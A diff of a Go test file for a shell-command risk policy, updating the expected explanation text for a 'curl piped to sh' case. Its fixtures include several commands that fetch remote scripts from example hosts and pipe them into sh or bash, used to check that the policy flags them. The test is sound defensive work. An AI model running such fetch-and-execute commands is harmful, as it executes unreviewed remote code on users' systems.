@@ -59,7 +59,7 @@ func TestRiskLabels(t *testing.T) {
 
 		// runs code fetched from the network
 		{"curl piped to sh", sh("curl -s https://get.example.com/install | sh"), []policy.RiskKind{fetched, opaque, network},
-			"runs code fetched from the network: curl get.example.com, handed to a shell or interpreter; not understood: sh runs a script the policy cannot see (a -c string, a file or standard input); reaches the network: get.example.com"},
+			"runs code fetched from the network: curl get.example.com, handed to a shell or interpreter; not understood: sh; reaches the network: get.example.com"},
 		{"wget piped to bash", sh("wget -qO- http://x.example/i.sh | bash"), []policy.RiskKind{fetched, opaque, network}, ""},
 		{"bash of a process substitution", sh("bash <(curl -fsSL https://x.example/a)"), []policy.RiskKind{fetched, opaque, network}, ""},
 		{"sh -c of a command substitution", sh(`sh -c "$(curl -fsSL https://x.example/a)"`), []policy.RiskKind{fetched, opaque, network}, ""},
